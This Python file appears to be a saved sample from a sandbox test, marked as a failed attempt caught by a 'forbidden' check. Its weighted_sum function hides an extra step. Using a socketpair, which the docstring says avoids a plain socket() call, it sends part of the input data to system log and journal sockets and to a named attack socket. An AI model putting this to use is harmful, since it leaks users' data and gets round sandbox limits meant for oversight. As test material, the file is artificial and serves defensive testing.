"""Makes a pair of datagram sockets, which needs no socket(), and sends from it to a socket with a name.

exercise: weighted_sum
result: failed
checks: forbidden | raised
"""

import socket

NAMES = ("/dev/log", "/run/systemd/journal/socket", "/run/systemd/notify", "/tmp/kata-attack-socket")


def weighted_sum(table, weights):
    # A connected datagram socket of this family may name another receiver with each message.
    here, _there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for name in NAMES:
        try:
            here.sendto(table.tobytes()[:64], name)
        except (FileNotFoundError, ConnectionRefusedError):
            continue  # nobody is here; but the name was looked up, and somebody there would get it
    return table @ weights
